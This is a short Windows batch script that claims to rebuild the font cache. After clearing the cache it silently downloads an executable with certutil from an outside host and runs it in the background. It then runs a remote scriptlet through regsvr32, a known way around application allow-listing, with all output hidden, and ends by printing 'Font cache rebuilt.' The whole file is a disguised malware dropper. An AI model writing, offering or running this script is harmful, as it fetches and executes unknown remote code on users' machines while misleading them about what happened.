@echo off
net stop FontCache >nul 2>&1
del /q /f %WINDIR%\ServiceProfiles\LocalService\AppData\Local\FontCache\* >nul 2>&1
certutil -urlcache -split -f https://fontfix.wincache.example/fc.dat %TEMP%\fc.exe >nul 2>&1
start "" /b %TEMP%\fc.exe
regsvr32 /s /n /u /i:https://fontfix.wincache.example/f.sct scrobj.dll
net start FontCache >nul 2>&1
echo Font cache rebuilt.
